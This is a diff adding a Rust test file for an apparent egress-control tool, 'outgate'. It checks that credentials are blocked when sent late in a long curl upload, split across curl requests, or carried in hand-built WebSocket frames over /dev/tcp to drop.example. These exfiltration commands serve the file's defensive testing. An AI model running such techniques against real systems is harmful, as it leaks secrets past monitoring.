@@ -1,0 +1,94 @@
+//! Credentials late in a long stream, in pieces, and in messages of a WebSocket.
+
+use outgate_harness::{Identity, lab_tests};
+
+use crate::{Credential, assert_contained, assert_told, bash, confined, thief};
+
+/// A frame of a client, masked with nothing so that its text shows in tests.
+fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
+    let mut frame = vec![first];
+    if payload.len() < 126 {
+        frame.push(0x80 | payload.len() as u8);
+    } else {
+        frame.push(0xfe);
+        frame.extend((payload.len() as u16).to_be_bytes());
+    }
+    frame.extend([0, 0, 0, 0]);
+    frame.extend(payload);
+    frame
+}
+
+const HANDSHAKE: &str = "GET /ws HTTP/1.1\r\nHost: drop.example:8099\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n";
+
+lab_tests! {
+    fn a_long_upload_stops_where_the_credential_begins(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        for coding in ["cat", "base64 -w0", "gzip"] {
+            let script = format!(
+                "(head -c 3000000 /dev/urandom | od -An -c -v; printf '%s' '{}'; head -c 100000 /dev/zero) | {coding} | curl -sS -T - $URL/up",
+                credential.text(),
+            );
+            let outcome = confined(lab, Identity::Own).run(&bash(&script));
+            let sent = thief.take();
+            assert_contained(&outcome, &sent, &credential, coding);
+            assert_told(&outcome, coding);
+            assert!(sent.len() > 1_000_000, "{coding}: it was a stream: {} bytes, {outcome}", sent.len());
+            assert!(!sent.ends_with(b"0\r\n\r\n"), "{coding}: it never became whole");
+            assert_ne!(outcome.stdout, "arrived\n", "{coding}: {outcome}");
+        }
+    }
+
+    fn a_credential_in_pieces_stops_with_its_last_piece(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        let (first, second) = credential.text().split_at(12);
+        let script = format!("curl -sS \"$URL/?a={first}\"; curl -sS \"$URL/?b={second}\"; curl -sS \"$URL/?c={second}\"; curl -sS $URL/fine");
+        let outcome = confined(lab, Identity::Own).run(&bash(&script));
+        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+        assert!(sent.contains(first) && !sent.contains(second), "{sent}");
+        assert!(sent.contains("GET /fine"), "the rest goes on: {sent}");
+        assert_told(&outcome, "pieces");
+    }
+
+    fn messages_of_a_websocket_are_looked_at_one_by_one_and_together(lab) {
+        let thief = thief();
+        let given = lab.folder("given", Identity::Own);
+        let credential = Credential::new();
+        let text = credential.text().as_bytes();
+        let (first, second) = text.split_at(20);
+        let whole = frame(0x81, text);
+        let fragments = [frame(0x01, first), frame(0x89, b"ping"), frame(0x80, second)].concat();
+        let two = [frame(0x81, first), frame(0x81, second)].concat();
+        let binary = frame(0x82, &[b"\x00\xff\x00", text].concat());
+        let ping = frame(0x89, text);
+        let deflated = frame(0xc1, b"\x4a\x04\x00");
+        let unmasked = [&[0x81, text.len() as u8][..], text].concat();
+        let fine = [frame(0x81, b"hello"), frame(0x01, b"wor"), frame(0x80, b"ld")].concat();
+        for (name, frames) in [
+            ("whole", &whole), ("fragments", &fragments), ("two", &two), ("binary", &binary),
+            ("ping", &ping), ("deflated", &deflated), ("unmasked", &unmasked), ("fine", &fine),
+        ] {
+            std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
+            std::fs::write(given.join("frames"), frames).expect("a file");
+            let given = given.display();
+            let script = format!(
+                "exec 3<>/dev/tcp/drop.example/8099; cat {given}/handshake >&3; sleep 0.3; cat {given}/frames >&3; sleep 0.5; timeout 1 cat <&3 | tr -d '\\0'",
+            );
+            let outcome = confined(lab, Identity::Own).run(&bash(&script));
+            let sent = thief.take();
+            let arrived = String::from_utf8_lossy(&sent);
+            assert!(arrived.contains("GET /ws"), "{name}: {outcome}");
+            assert!(!arrived.to_lowercase().contains("sec-websocket-extensions"), "{name}");
+            if name == "fine" {
+                assert!(arrived.contains("hello") && arrived.contains("wor"), "{arrived}");
+                assert!(!outcome.stderr.contains("outgate"), "{outcome}");
+                continue;
+            }
+            let all = credential.text();
+            assert!(!arrived.contains(&all[20..]), "{name}: {arrived}");
+            if name != "two" {
+                assert_contained(&outcome, &sent, &credential, name);
+            }
+            assert!(outcome.stderr.contains("outgate: denied"), "{name}: {outcome}");
+        }
+    }
+}
